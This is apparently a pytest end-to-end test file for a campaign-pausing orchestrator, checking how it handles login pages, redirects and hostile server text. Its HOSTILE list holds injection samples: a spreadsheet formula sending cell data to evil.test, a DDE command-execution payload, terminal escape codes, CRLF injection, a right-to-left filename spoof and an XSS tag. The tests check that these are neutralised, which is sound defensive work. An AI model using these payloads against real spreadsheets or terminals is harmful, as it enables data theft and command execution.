"""What the server says, as people read it: pages, redirects and hostile text."""

from __future__ import annotations

from pathlib import Path

import pytest

from orchestrator.model import CampaignRef, Status
from tests.e2e.makers import (
    VDN,
    Stand,
    Told,
    codes,
    pause_through,
    refs_of,
    world_of,
)
from tests.fault_server import SUCCESS, FaultServer, raw, reply

pytestmark = pytest.mark.sockets


def reconcile(server: Stand, told: Told) -> None:
    """Journal, report and server agree: intents are PUTs, what is stopped does not run."""
    assert server.puts_by_id == dict(told.intents)
    for campaign_id, row in told.rows.items():
        status = server.world.status_of(CampaignRef(int(row["vdn_id"]), campaign_id))
        if row["stopped"] == "yes":
            assert status is not Status.STARTED, row
        elif row["outcome"] in {"failed", "rejected", "denied", "still_running", "unattempted"}:
            assert status is Status.STARTED, row


PAGE = b"<html><head><title>Sign in</title></head><body>Welcome to the portal</body></html>"


async def test_a_login_page_is_no_success_and_is_shown(tmp_path: Path) -> None:
    """[S28] HTTP 200 with a page: exit 4, nothing paused, its first words stand in the reason."""
    async with FaultServer() as server:
        server.answers(reply(PAGE))
        told = await pause_through(server, tmp_path, refs_of(50))

    assert told.exit_code == 4
    assert set(told.counts) <= {"unattempted", "unknown"}
    assert "<html><head><title>Sign in" in told.result.line
    # a page is in doubt, so it is repeated before the second request tells; then the run ends
    assert len({seen.target for seen in server.ledger}) <= 2


async def test_a_right_answer_under_a_wrong_content_type_counts(tmp_path: Path) -> None:
    """[S29] JSON that parses, called a page: paused, after one attempt."""
    answer = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\n\r\n%s"
    async with FaultServer() as server:
        server.answers(raw(answer % (len(SUCCESS), SUCCESS)))
        told = await pause_through(server, tmp_path, refs_of(3))

    assert told.counts == {"paused": 3}
    assert set(told.intents.values()) == {1}


async def test_a_redirect_on_the_same_host_is_a_failure(tmp_path: Path) -> None:
    """[S40] 302 to a login path: not followed, named without its query, exit 4."""
    async with FaultServer() as server:
        where = f"Location: {server.url}/login?session=abc123"
        server.answers(reply(b"", status="302 Found", headers=(where,)))
        told = await pause_through(server, tmp_path, refs_of(20))

    assert told.exit_code == 4
    assert f"redirected to {server.url}/login," in told.result.line
    assert "abc123" not in told.result.line
    assert not any("/login" in seen.target for seen in server.ledger)


async def test_a_redirect_loop_is_a_failure_of_one_campaign(tmp_path: Path) -> None:
    """[S42] A redirect to itself for one campaign: repeated, not followed, and the others go on."""
    async with Stand(world=world_of(8)) as server:
        here = f"{server.url}/rest/isales/v1/openapi/campaigns/{VDN}/5/pause"
        server.answers(
            reply(b"", status="302 Found", headers=(f"Location: {here}",)), campaign_id=5
        )
        told = await pause_through(server, tmp_path, refs_of(8), retry__patience_s=2)

    assert (told.exit_code, told.counts) == (1, {"paused": 7, "failed": 1})
    assert 2 <= server.puts_by_id[5] <= 6
    reconcile(server, told)


HOSTILE = (
    '=HYPERLINK("http://evil.test/?x="&A1,"click")',
    "\x1b[2J\x1b[31mAll campaigns paused\x07",
    "first line\r\nVDN 12: no campaign started",
    "gnp.exe\u202efdp",
    "<script>alert(1)</script>",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "A" * 20_000,
)


@pytest.mark.parametrize("desc", HOSTILE, ids=range(len(HOSTILE)))
async def test_hostile_text_of_the_server_is_harmless_in_every_place(
    tmp_path: Path, desc: str, capfd: pytest.CaptureFixture[str]
) -> None:
    """[S43] As resultDesc: no formula in the CSV, no control on the terminal, cut to 500."""
    async with Stand(world=world_of(3)) as server:
        server.answers(reply(codes("0200001", desc=desc)), campaign_id=2)
        told = await pause_through(server, tmp_path, refs_of(3))

    cell = told.rows[2]["result_desc"]
    assert told.rows[2]["outcome"] == "rejected"
    assert len(cell) <= 501
    assert cell.lstrip()[:1] not in tuple("=+-@＝＋－＠\t\r\n")  # noqa: RUF001 - the lookalikes
    for text in (cell, told.result.line, *told.result.unstopped):
        assert text.isprintable()
    assert told.result.run_dir is not None
    files = [path for path in told.result.run_dir.iterdir() if path.suffix in {".csv", ".json"}]
    assert len(files) == 3
    for path in files:
        raw = path.read_bytes()
        assert b"\x1b" not in raw
        assert "\u202e".encode() not in raw
    assert "\x1b" not in "".join(capfd.readouterr())
